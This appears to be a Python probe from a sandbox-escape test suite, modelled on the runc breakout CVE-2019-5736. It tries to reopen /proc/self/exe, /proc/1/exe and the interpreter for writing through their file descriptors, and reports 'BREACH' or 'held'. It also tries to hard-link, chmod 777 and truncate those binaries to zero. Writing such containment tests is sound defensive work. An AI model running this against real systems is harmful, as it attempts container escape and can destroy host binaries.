"""Rewrite the program that starts the next job through its own descriptor (as CVE-2019-5736 did with runc)."""

import os
import sys

from attack import tried

for path in ("/proc/self/exe", "/proc/1/exe", sys.executable):
    descriptor = -1
    try:
        descriptor = os.open(path, os.O_PATH)
    except OSError as error:
        print("held", path, error)
        continue
    for flags in (os.O_WRONLY, os.O_RDWR, os.O_WRONLY | os.O_TRUNC, os.O_WRONLY | os.O_APPEND):
        for _ in range(200):
            try:
                os.close(os.open(f"/proc/self/fd/{descriptor}", flags))
                print("BREACH", path, flags)
                break
            except OSError as error:
                told = error
        else:
            print("held", path, flags, told)
    tried(f"link {path}", lambda d=descriptor: os.link(f"/proc/self/fd/{d}", "/tmp/linked", follow_symlinks=True))
    tried(f"chmod {path}", lambda d=descriptor: os.chmod(f"/proc/self/fd/{d}", 0o777))
    tried(f"truncate {path}", lambda d=descriptor: os.truncate(f"/proc/self/fd/{d}", 0))
print("done")
